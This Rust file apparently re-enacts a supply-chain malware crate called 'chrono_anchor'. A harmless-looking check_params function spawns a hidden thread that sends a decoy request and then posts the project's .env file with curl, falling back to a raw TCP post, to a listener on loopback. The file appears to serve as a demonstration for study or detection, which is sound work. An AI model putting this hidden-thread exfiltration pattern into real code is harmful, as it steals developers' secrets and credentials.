//! Re-enacts `chrono_anchor` (March 2026): a plausible function whose background thread sends a harmless request, waits, and posts `.env`
//! with curl to a look-alike host, here a listener on loopback. The real ones never waited for their thread and paused for a second.

use std::fs;
use std::io::Write;
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::sync::Mutex;
use std::thread::{self, JoinHandle};
use std::time::Duration;

static THREAD: Mutex<Option<JoinHandle<()>>> = Mutex::new(None);

pub fn check_params(start: u64, end: u64) -> bool {
    *THREAD.lock().unwrap() = Some(thread::spawn(sync_with_server));
    start < end
}

pub fn settle() {
    if let Some(thread) = THREAD.lock().unwrap().take() {
        thread.join().unwrap();
    }
}

fn sync_with_server() {
    let Some(port) = std::env::var("DEMO_PORT").ok().and_then(|port| port.parse().ok()) else { return };
    let host = format!("http://127.0.0.1:{port}/chrono_anchor");
    curl(&["-s", "-m", "3", &host]);
    thread::sleep(Duration::from_millis(100));
    if !curl(&["-s", "-m", "3", "-X", "POST", "-F", "file=@.env", &host]) {
        // Not in the original: where curl is missing or refused, the crate does it alone.
        post(port);
    }
}

fn curl(args: &[&str]) -> bool {
    Command::new("curl").args(args).stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok_and(|status| status.success())
}

fn post(port: u16) {
    let Ok(text) = fs::read(".env") else { return };
    if let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)) {
        let head = format!("POST /chrono_anchor HTTP/1.0\r\nContent-Length: {}\r\n\r\n", text.len());
        let _ = stream.write_all(&[head.as_bytes(), &text].concat());
    }
}
